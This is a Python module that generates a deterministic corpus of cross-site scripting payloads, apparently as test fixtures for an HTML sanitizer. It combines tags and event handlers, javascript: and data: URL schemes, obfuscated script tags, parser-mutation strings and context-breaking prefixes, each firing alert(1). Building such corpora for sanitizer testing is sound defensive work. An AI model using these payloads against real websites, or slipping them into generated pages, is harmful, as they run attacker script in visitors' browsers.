# ruff: noqa: E501, Q000, Q003 - attacks are written as they are
"""Hostile HTML fragments: shown in a browser as they are, each would call `alert`."""

from collections.abc import Iterator
from itertools import product
from random import Random

_TAGS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus"),
    *("iframe", "object data=x", "embed src=x", "a href=x", "div tabindex=0", "button autofocus"),
    *("textarea autofocus", "select autofocus", "marquee", "form", "style", "link rel=stylesheet href=x"),
    *("video><source src=x", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x"),
    *("math", "table background=x", "p contenteditable autofocus", "x-custom style=display:block"),
)  # fmt: skip
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onbegin", "onstart"),
    *("onpointerenter", "onanimationstart", "onfocusin", "onloadstart", "oncanplay", "onblur"),
)
_QUOTES = (
    "{e}=alert(1)",
    '{e}="alert(1)"',
    "{e}='alert(1)'",
    "{e} = alert&lpar;1)",
    "/{e}=alert(1)//",
)
_SCRIPTS = (
    *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>"),
    *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>"),
    *(
        "<script src=data:,alert(1)></script>",
        "<script>alert(1)//",
        "<<script>alert(1)//<</script>",
    ),
    *("<svg><script>alert(1)</script>", "<svg><script>alert&#40;1)</script>"),
    *("<script type=module>alert(1)</script>", "<script>/*\u2028*/alert(1)</script>"),
)
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *("&#x6a;avascript:alert(1)", "&#106avascript:alert(1)", "javascript&colon;alert(1)"),
    *("\x01javascript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *("vbscript:alert(1)", "feed:javascript:alert(1)", "view-source:javascript:alert(1)"),
    "https://x.example/\"onmouseover=alert(1) x=\"",
)  # fmt: skip
_PLACES = (
    *("{u}", '<a href="{u}">x</a>', "<a href={u}>x</a>", '<iframe src="{u}"></iframe>'),
    *('<form action="{u}"><button>x</button></form>', '<button formaction="{u}">x</button>'),
    *('<object data="{u}"></object>', '<embed src="{u}">', '<img src="{u}">', '<area href="{u}">'),
    *('<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>', '<base href="{u}//">'),
    *('<meta http-equiv=refresh content="0;url={u}">', '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">'),
    *('<link rel=import href="{u}">', '<math href="{u}">x</math>', '<video poster="{u}">'),
)  # fmt: skip
_MUTATING = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style>',
    "<table><td><svg><desc><td><img src=x onerror=alert(1)>",
    '<select><template><img src=x onerror=alert(1)></template></select>',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?x ><img src=x onerror=alert(1)>?>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<style>@import'data:text/css,*{}';</style><img src=x onerror=alert(1)>",
    "<a href='x' style='animation-name:x' onanimationend=alert(1)>x</a>",
)  # fmt: skip
_BREAKS = (
    *("", '">', "'>", "`>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</script>", "</a>"),
    *("</del></div></article></main>", "</noscript>", "</template>", "<!--", "\x00", "\x1b", "\ufffe"),
    *("\u202e", "&lt;", "{{ 7 * 7 }}{% raw %}", "{#", "\\", "' ", '" ', "</", "<a x='"),
)  # fmt: skip


def fragments(count: int) -> list[str]:
    """Return `count` different fragments of every kind, the same ones each time."""
    chance = Random(4)
    bare = [*_tagged(), *_SCRIPTS, *_addressed(), *_MUTATING]
    chance.shuffle(bare)
    kinds = [
        *_SCRIPTS,
        *_MUTATING,
        *(f"<img src=x onerror=alert(1){end}" for end in (">", "", "//")),
    ]
    every = [f"{lead}{one}" for lead, one in product(_BREAKS, (*kinds, *bare[:250]))]
    every = [*dict.fromkeys([*every, *bare])]
    chance.shuffle(every)
    if len(every) < count:
        raise ValueError(f"there are {len(every)} fragments and no more")
    return every[:count]


def _tagged() -> Iterator[str]:
    for tag, event, quote in product(_TAGS, _EVENTS, _QUOTES):
        yield f"<{tag} {quote.format(e=event)}>x"


def _addressed() -> Iterator[str]:
    for place, scheme in product(_PLACES, _SCHEMES):
        yield place.replace("{u}", scheme)
